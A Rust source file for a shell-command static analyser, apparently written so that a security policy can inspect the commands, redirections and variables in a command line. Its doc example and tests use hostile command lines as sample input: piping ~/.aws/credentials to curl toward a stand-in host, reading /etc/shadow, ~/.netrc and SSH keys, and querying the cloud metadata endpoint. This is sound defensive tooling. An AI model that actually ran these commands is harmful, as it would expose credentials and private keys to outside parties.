//! Static analysis of POSIX sh / common bash command lines, for policy: every simple command with
//! its argv as far as it can be resolved, paths read and written through redirections,
//! environment variables referenced, and what could not be resolved (globs, variables,
//! substitutions), so that policy can be conservative.
//!
//! It follows quotes and escapes, `$VAR`/`${VAR}`, `$(…)` and backticks (analysed as nested
//! scripts), pipelines, `;` `&&` `||` `&`, redirections, subshells and groups, and looks through
//! wrappers: `sh -c`/`bash -c` scripts, `env VAR=x cmd`, `sudo`, `nohup`, `timeout`, `xargs` and
//! `find -exec`.
//!
//! ```
//! use sluice_protocols::shell;
//! let a = shell::analyze("cat ~/.aws/credentials | curl -d @- https://x.example", &shell::Limits::default())?;
//! assert_eq!(a.commands[0].argv, ["cat", "~/.aws/credentials"]);
//! assert_eq!(a.commands[1].program(), Some("curl"));
//! # Ok::<(), sluice_protocols::shell::Error>(())
//! ```

use std::fmt;

/// Limits on the analysis.
#[derive(Debug, Clone)]
pub struct Limits {
    /// Longest input accepted, in bytes (default 64 KiB).
    pub max_len: usize,
    /// Deepest nesting of `sh -c`, `$(…)` and subshells (default 8).
    pub max_depth: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_len: 64 * 1024,
            max_depth: 8,
        }
    }
}

/// Why a command line could not be analysed.
pub type Error = crate::Error<ErrorKind>;

/// What was wrong.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum ErrorKind {
    /// A quote, `$(`, `${` or backtick that is never closed.
    Unterminated,
    /// The input or its nesting exceeds the limits.
    TooLarge,
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.kind {
            ErrorKind::Unterminated => write!(
                f,
                "unterminated quote or substitution starting at offset {}",
                self.offset
            ),
            ErrorKind::TooLarge => write!(f, "command line too long or too deeply nested (offset {})", self.offset),
        }
    }
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Command {
    /// The words after quote removal. A word that could not be resolved statically keeps its
    /// source text and is listed in `unresolved`.
    pub argv: Vec<String>,
    /// Indexes into `argv` of words holding a variable, a substitution or a glob.
    pub unresolved: Vec<usize>,
    /// `VAR=value` assignments before the command (and those given to `env`).
    pub assignments: Vec<(String, String)>,
    /// How deeply the command is nested (`sh -c`, `$(…)`, subshells).
    pub depth: usize,
}

impl Command {
    /// The program name (`argv[0]`), if any.
    pub fn program(&self) -> Option<&str> {
        self.argv.first().map(String::as_str)
    }
}

/// The result of analysing a command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Analysis {
    /// Every simple command, in order, including nested ones and those behind wrappers.
    pub commands: Vec<Command>,
    /// Files read through `<` redirections.
    pub reads: Vec<String>,
    /// Files written through `>`, `>>`, `&>` redirections.
    pub writes: Vec<String>,
    /// Environment variables referenced (`$HOME`, `${AWS_SECRET}`).
    pub variables: Vec<String>,
    /// Whether anything could not be resolved statically (variables, substitutions, globs, eval).
    pub uncertain: bool,
}

#[derive(Debug)]
struct Word {
    text: String,
    unresolved: bool,
}

struct Parser<'a> {
    s: &'a [u8],
    pos: usize,
    depth: usize,
    limits: &'a Limits,
    out: Analysis,
}

const WRAPPERS: &[&str] = &[
    "sudo", "doas", "nohup", "time", "nice", "timeout", "stdbuf", "command", "exec", "builtin",
];

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<u8> {
        self.s.get(self.pos).copied()
    }

    fn at(&self, off: usize) -> Option<u8> {
        self.s.get(self.pos + off).copied()
    }

    fn err(&self, kind: ErrorKind, offset: usize) -> Error {
        Error { kind, offset }
    }

    /// Reads a `$name`, `${…}`, `$(…)` or `$((…))` at `pos` (which is at `$`), appending its
    /// source text to `w`. Returns whether it was a substitution or variable (always true).
    fn dollar(&mut self, w: &mut Word) -> Result<(), Error> {
        let start = self.pos;
        self.pos += 1;
        match self.peek() {
            Some(b'(') => {
                let arith = self.at(1) == Some(b'(');
                let body_start = self.pos + 1;
                let end = self.matching(b'(', b')', start)?;
                let body = &self.s[body_start..end];
                if !arith {
                    self.nested(body, start)?;
                }
                self.pos = end + 1;
            }
            Some(b'{') => {
                let end = self.s[self.pos..]
                    .iter()
                    .position(|&b| b == b'}')
                    .ok_or(self.err(ErrorKind::Unterminated, start))?
                    + self.pos;
                let inner = &self.s[self.pos + 1..end];
                let name: String = inner
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .map(|&b| b as char)
                    .collect();
                if !name.is_empty() {
                    self.out.variables.push(name);
                }
                self.pos = end + 1;
            }
            Some(b) if b.is_ascii_alphabetic() || b == b'_' => {
                let name_start = self.pos;
                while self.peek().is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_') {
                    self.pos += 1;
                }
                self.out
                    .variables
                    .push(String::from_utf8_lossy(&self.s[name_start..self.pos]).into_owned());
            }
            Some(b) if b.is_ascii_digit() || b"@*#?$!-".contains(&b) => self.pos += 1,
            _ => {
                // A lone `$` is literal.
                w.text.push('$');
                return Ok(());
            }
        }
        w.text.push_str(&String::from_utf8_lossy(&self.s[start..self.pos]));
        w.unresolved = true;
        self.out.uncertain = true;
        Ok(())
    }

    /// The index of the bracket closing the one at `pos`, skipping quotes.
    fn matching(&self, open: u8, close: u8, start: usize) -> Result<usize, Error> {
        let mut depth = 0usize;
        let mut i = self.pos;
        while i < self.s.len() {
            match self.s[i] {
                b'\\' => i += 1,
                b'\'' => {
                    i += self.s[i + 1..]
                        .iter()
                        .position(|&b| b == b'\'')
                        .ok_or(self.err(ErrorKind::Unterminated, i))?
                        + 1;
                }
                b if b == open => depth += 1,
                b if b == close => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(i);
                    }
                }
                _ => {}
            }
            i += 1;
        }
        Err(self.err(ErrorKind::Unterminated, start))
    }

    fn nested(&mut self, body: &[u8], at: usize) -> Result<(), Error> {
        if self.depth + 1 > self.limits.max_depth {
            return Err(self.err(ErrorKind::TooLarge, at));
        }
        let mut p = Parser {
            s: body,
            pos: 0,
            depth: self.depth + 1,
            limits: self.limits,
            out: Analysis::default(),
        };
        p.list().map_err(|e| Error {
            kind: e.kind,
            offset: e.offset + at,
        })?;
        let inner = p.out;
        self.out.uncertain |= inner.uncertain;
        self.out.commands.extend(inner.commands);
        self.out.reads.extend(inner.reads);
        self.out.writes.extend(inner.writes);
        self.out.variables.extend(inner.variables);
        Ok(())
    }

    fn is_meta(b: u8) -> bool {
        matches!(b, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')')
    }

    /// Reads one word at `pos`, or None at a metacharacter.
    fn word(&mut self) -> Result<Option<Word>, Error> {
        let mut w = Word {
            text: String::new(),
            unresolved: false,
        };
        let start = self.pos;
        while let Some(b) = self.peek() {
            if Self::is_meta(b) {
                break;
            }
            match b {
                b'\\' => {
                    if let Some(n) = self.at(1)
                        && n != b'\n'
                    {
                        w.text.push(n as char);
                    }
                    self.pos += 2;
                }
                b'\'' => {
                    let end = self.s[self.pos + 1..]
                        .iter()
                        .position(|&b| b == b'\'')
                        .ok_or(self.err(ErrorKind::Unterminated, self.pos))?;
                    w.text
                        .push_str(&String::from_utf8_lossy(&self.s[self.pos + 1..self.pos + 1 + end]));
                    self.pos += end + 2;
                }
                b'"' => {
                    let q = self.pos;
                    self.pos += 1;
                    loop {
                        match self.peek() {
                            None => return Err(self.err(ErrorKind::Unterminated, q)),
                            Some(b'"') => {
                                self.pos += 1;
                                break;
                            }
                            Some(b'\\') if self.at(1).is_some_and(|n| b"$`\"\\\n".contains(&n)) => {
                                if let Some(n) = self.at(1).filter(|&n| n != b'\n') {
                                    w.text.push(n as char);
                                }
                                self.pos += 2;
                            }
                            Some(b'$') => self.dollar(&mut w)?,
                            Some(b'`') => self.backtick(&mut w)?,
                            Some(c) => {
                                w.text.push(c as char);
                                self.pos += 1;
                            }
                        }
                    }
                }
                b'$' if self.at(1) == Some(b'\'') => {
                    // ANSI-C quoting: $'…' with backslash escapes, taken literally here.
                    let end = self.s[self.pos + 2..]
                        .iter()
                        .position(|&b| b == b'\'')
                        .ok_or(self.err(ErrorKind::Unterminated, self.pos))?;
                    w.text
                        .push_str(&String::from_utf8_lossy(&self.s[self.pos + 2..self.pos + 2 + end]));
                    w.unresolved |= self.s[self.pos + 2..self.pos + 2 + end].contains(&b'\\');
                    self.pos += end + 3;
                }
                b'$' => self.dollar(&mut w)?,
                b'`' => self.backtick(&mut w)?,
                b'*' | b'?' | b'[' => {
                    w.text.push(b as char);
                    w.unresolved = true;
                    self.out.uncertain = true;
                    self.pos += 1;
                }
                _ => {
                    // Keep UTF-8 intact: copy the whole run of plain bytes.
                    let run = self.s[self.pos..]
                        .iter()
                        .position(|&c| Self::is_meta(c) || b"\\'\"$`*?[".contains(&c))
                        .unwrap_or(self.s.len() - self.pos);
                    w.text
                        .push_str(&String::from_utf8_lossy(&self.s[self.pos..self.pos + run]));
                    self.pos += run;
                }
            }
        }
        Ok((self.pos > start).then_some(w))
    }

    fn backtick(&mut self, w: &mut Word) -> Result<(), Error> {
        let start = self.pos;
        let end = self.s[self.pos + 1..]
            .iter()
            .position(|&b| b == b'`')
            .ok_or(self.err(ErrorKind::Unterminated, start))?
            + self.pos
            + 1;
        let body = self.s[self.pos + 1..end].to_vec();
        self.nested(&body, start + 1)?;
        w.text.push_str(&String::from_utf8_lossy(&self.s[start..=end]));
        w.unresolved = true;
        self.out.uncertain = true;
        self.pos = end + 1;
        Ok(())
    }

    fn blanks(&mut self) {
        while self.peek().is_some_and(|b| b == b' ' || b == b'\t') {
            self.pos += 1;
        }
        // A comment runs to the end of the line.
        if self.peek() == Some(b'#') {
            while self.peek().is_some_and(|b| b != b'\n') {
                self.pos += 1;
            }
        }
    }

    /// A list of pipelines separated by `;`, `&`, `&&`, `||` and newlines.
    fn list(&mut self) -> Result<(), Error> {
        loop {
            self.blanks();
            match self.peek() {
                None => return Ok(()),
                Some(b';' | b'&' | b'|' | b'\n') => {
                    self.pos += 1;
                    continue;
                }
                Some(b')') => {
                    // Stray close (its opener was outside): skip.
                    self.pos += 1;
                    continue;
                }
                Some(b'(') => {
                    let start = self.pos;
                    let end = self.matching(b'(', b')', start)?;
                    let body = self.s[start + 1..end].to_vec();
                    self.nested(&body, start + 1)?;
                    self.pos = end + 1;
                    continue;
                }
                _ => {}
            }
            self.simple()?;
        }
    }

    /// One simple command with its redirections.
    fn simple(&mut self) -> Result<(), Error> {
        let mut cmd = Command {
            depth: self.depth,
            ..Command::default()
        };
        loop {
            self.blanks();
            match self.peek() {
                None | Some(b';' | b'&' | b'|' | b'\n' | b'(' | b')') => {
                    // `&>` and `&>>` are redirections, `&` alone ends the command.
                    if self.peek() == Some(b'&') && self.at(1) == Some(b'>') {
                        self.pos += 1;
                        self.redirect(&mut cmd)?;
                        continue;
                    }
                    break;
                }
                Some(b'<' | b'>') => self.redirect(&mut cmd)?,
                Some(d) if d.is_ascii_digit() && matches!(self.at(1), Some(b'<' | b'>')) => {
                    self.pos += 1;
                    self.redirect(&mut cmd)?;
                }
                _ => {
                    let Some(w) = self.word()? else { break };
                    let is_assignment = cmd.argv.is_empty()
                        && w.text.find('=').is_some_and(|i| {
                            i > 0 && w.text[..i].bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                        });
                    if is_assignment {
                        let (k, v) = w.text.split_once('=').unwrap_or_default();
                        cmd.assignments.push((k.to_string(), v.to_string()));
                    } else {
                        if w.unresolved {
                            cmd.unresolved.push(cmd.argv.len());
                        }
                        cmd.argv.push(w.text);
                    }
                }
            }
        }
        if cmd.argv.is_empty() && cmd.assignments.is_empty() {
            return Ok(());
        }
        self.unwrap(cmd)
    }

    fn redirect(&mut self, cmd: &mut Command) -> Result<(), Error> {
        let op = self.peek();
        self.pos += 1;
        let mut write = op == Some(b'>');
        let mut read = op == Some(b'<');
        match self.peek() {
            Some(b'>') if write => self.pos += 1,
            Some(b'&') => {
                // `>&2`, `<&0`: a descriptor, not a file.
                self.pos += 1;
                let _ = self.word()?;
                return Ok(());
            }
            Some(b'<') if read => {
                self.pos += 1;
                if self.peek() == Some(b'<') {
                    self.pos += 1; // here-string: data, not a file
                }
                read = false;
                write = false;
            }
            Some(b'>') => {
                self.pos += 1;
                read = true;
                write = true;
            }
            _ => {}
        }
        self.blanks();
        if let Some(w) = self.word()? {
            if w.unresolved {
                self.out.uncertain = true;
            }
            if read {
                self.out.reads.push(w.text.clone());
            }
            if write {
                self.out.writes.push(w.text);
            }
        }
        let _ = cmd;
        Ok(())
    }

    /// Records a command, and looks through wrappers to the command they run.
    fn unwrap(&mut self, cmd: Command) -> Result<(), Error> {
        let depth = cmd.depth;
        let program = cmd.program().map(|p| p.rsplit('/').next().unwrap_or(p).to_string());
        let Some(program) = program else {
            self.out.commands.push(cmd);
            return Ok(());
        };
        let looks_through = matches!(
            program.as_str(),
            "sh" | "bash" | "zsh" | "dash" | "ksh" | "eval" | "env" | "xargs" | "find"
        ) || WRAPPERS.contains(&program.as_str());
        if !looks_through {
            self.out.commands.push(cmd);
            return Ok(());
        }
        let argv = cmd.argv.clone();
        let unresolved = cmd.unresolved.clone();
        self.out.commands.push(cmd);
        let rest = |from: usize| Command {
            argv: argv[from..].to_vec(),
            unresolved: unresolved.iter().filter(|&&i| i >= from).map(|&i| i - from).collect(),
            assignments: Vec::new(),
            depth: depth + 1,
        };
        let first_operand = |from: usize| {
            let mut i = from;
            while i < argv.len() && argv[i].starts_with('-') {
                // Options that take a value.
                if matches!(
                    argv[i].as_str(),
                    "-u" | "-g" | "-n" | "-s" | "-k" | "-C" | "-E" | "-I" | "-d" | "-P" | "-L"
                ) {
                    i += 1;
                }
                i += 1;
            }
            i
        };
        match program.as_str() {
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                if let Some(i) = argv
                    .iter()
                    .position(|a| a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c')))
                    && let Some(script) = argv.get(i + 1)
                {
                    if unresolved.contains(&(i + 1)) {
                        self.out.uncertain = true;
                    }
                    let script = script.clone();
                    self.nested(script.as_bytes(), 0)?;
                }
            }
            "eval" => {
                self.out.uncertain = true;
                let script = argv[1..].join(" ");
                self.nested(script.as_bytes(), 0)?;
            }
            "env" => {
                let mut i = 1;
                let mut assignments = Vec::new();
                while i < argv.len() {
                    if argv[i].starts_with('-') {
                        i += if argv[i] == "-u" { 2 } else { 1 };
                    } else if let Some((k, v)) = argv[i].split_once('=') {
                        assignments.push((k.to_string(), v.to_string()));
                        i += 1;
                    } else {
                        break;
                    }
                }
                if i < argv.len() {
                    let mut c = rest(i);
                    c.assignments = assignments;
                    self.unwrap(c)?;
                }
            }
            "xargs" => {
                let i = first_operand(1);
                if i < argv.len() {
                    self.out.uncertain = true; // its arguments come from stdin
                    self.unwrap(rest(i))?;
                }
            }
            "find" => {
                if let Some(i) = argv.iter().position(|a| a == "-exec" || a == "-execdir" || a == "-ok") {
                    let end = argv[i + 1..]
                        .iter()
                        .position(|a| a == ";" || a == "+")
                        .map_or(argv.len(), |e| i + 1 + e);
                    if end > i + 1 {
                        let mut c = rest(i + 1);
                        c.argv.truncate(end - i - 1);
                        self.unwrap(c)?;
                    }
                }
            }
            p if WRAPPERS.contains(&p) => {
                let mut i = first_operand(1);
                if p == "timeout" && i < argv.len() {
                    i += 1; // the duration
                }
                if i < argv.len() {
                    self.unwrap(rest(i))?;
                }
            }
            _ => {}
        }
        Ok(())
    }
}

/// Analyses a command line.
pub fn analyze(script: &str, limits: &Limits) -> Result<Analysis, Error> {
    if script.len() > limits.max_len {
        return Err(Error {
            kind: ErrorKind::TooLarge,
            offset: limits.max_len,
        });
    }
    let mut p = Parser {
        s: script.as_bytes(),
        pos: 0,
        depth: 0,
        limits,
        out: Analysis::default(),
    };
    p.list()?;
    let mut out = p.out;
    out.variables.sort();
    out.variables.dedup();
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a(s: &str) -> Analysis {
        analyze(s, &Limits::default()).expect("analyses")
    }

    fn programs(s: &str) -> Vec<String> {
        a(s).commands
            .iter()
            .filter_map(|c| c.program().map(str::to_string))
            .collect()
    }

    #[test]
    fn quotes_escapes_and_lists() {
        let r = a(r#"cat "$HOME/.aws/credentials" 'a b' c\ d; echo ok && ls -la || true"#);
        assert_eq!(r.commands[0].argv, ["cat", "$HOME/.aws/credentials", "a b", "c d"]);
        assert_eq!(r.commands[0].unresolved, [1]);
        assert_eq!(r.variables, ["HOME"]);
        assert_eq!(
            programs(r#"cat x; echo ok && ls -la || true"#),
            ["cat", "echo", "ls", "true"]
        );
        assert_eq!(a("c'a't ~/.ssh/id_rsa").commands[0].argv, ["cat", "~/.ssh/id_rsa"]);
        assert_eq!(
            a(r#"printenv HOME # trailing comment"#).commands[0].argv,
            ["printenv", "HOME"]
        );
    }

    #[test]
    fn nesting_and_wrappers() {
        assert_eq!(programs("sh -c 'cat /etc/shadow | base64'"), ["sh", "cat", "base64"]);
        assert_eq!(programs(r#"bash -lc "env | grep KEY""#), ["bash", "env", "grep"]);
        assert_eq!(programs("echo $(cat ~/.netrc) `id`"), ["cat", "id", "echo"]);
        assert_eq!(programs("sudo -u root cat /root/.bash_history"), ["sudo", "cat"]);
        let r = a("env AWS_PROFILE=prod aws sts get-caller-identity");
        assert_eq!(r.commands[1].argv, ["aws", "sts", "get-caller-identity"]);
        assert_eq!(
            r.commands[1].assignments,
            [("AWS_PROFILE".to_string(), "prod".to_string())]
        );
        assert_eq!(programs("find ~ -name '*.pem' -exec cat {} \\;"), ["find", "cat"]);
        assert_eq!(programs("ls | xargs -n1 cat"), ["ls", "xargs", "cat"]);
        assert_eq!(programs("(cd /tmp && rm -rf x)"), ["cd", "rm"]);
        assert_eq!(
            programs("timeout 5 nohup curl http://169.254.169.254/latest/meta-data/"),
            ["timeout", "nohup", "curl"]
        );
        let r = a("FOO=1 BAR=2 make test");
        assert_eq!(
            (r.commands[0].argv.clone(), r.commands[0].assignments.len()),
            (vec!["make".to_string(), "test".to_string()], 2)
        );
    }

    #[test]
    fn redirections_globs_and_uncertainty() {
        let r = a("cat < ~/.git-credentials > out.txt 2>&1 >> log; wc -l <<< hi");
        assert_eq!(r.reads, ["~/.git-credentials"]);
        assert_eq!(r.writes, ["out.txt", "log"]);
        assert!(!r.uncertain);
        let r = a("cat ~/.ssh/id_*");
        assert!(r.uncertain && r.commands[0].unresolved == [1]);
        assert!(a("eval \"$CMD\"").uncertain);
        assert!(a("echo hi &> /dev/null").writes == ["/dev/null"]);
    }

    #[test]
    fn errors_and_limits() {
        assert_eq!(
            analyze("echo 'open", &Limits::default()).map_err(|e| (e.kind(), e.offset())),
            Err((ErrorKind::Unterminated, 5))
        );
        assert_eq!(
            analyze("echo $(date", &Limits::default()).map_err(|e| e.kind()),
            Err(ErrorKind::Unterminated)
        );
        assert_eq!(
            analyze("echo \"x", &Limits::default()).map_err(|e| e.kind()),
            Err(ErrorKind::Unterminated)
        );
        let deep = "sh -c ".to_string() + &"$(".repeat(20) + "id" + &")".repeat(20);
        assert_eq!(
            analyze(&deep, &Limits::default()).map_err(|e| e.kind()),
            Err(ErrorKind::TooLarge)
        );
        let long = "a".repeat(70_000);
        assert_eq!(
            analyze(&long, &Limits::default()).map_err(|e| e.kind()),
            Err(ErrorKind::TooLarge)
        );
    }

    #[test]
    fn arbitrary_input_never_panics() {
        let alphabet = b"ab $(){}'\"\\`;&|<>*?[]=-#\n\txc";
        let mut seed = 0xDEAD_BEEF_CAFE_F00Du64;
        for _ in 0..20_000 {
            let mut v = Vec::new();
            for _ in 0..(seed % 24) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                v.push(alphabet[(seed >> 40) as usize % alphabet.len()]);
            }
            seed = seed.wrapping_add(1);
            let _ = analyze(&String::from_utf8_lossy(&v), &Limits::default());
        }
    }
}
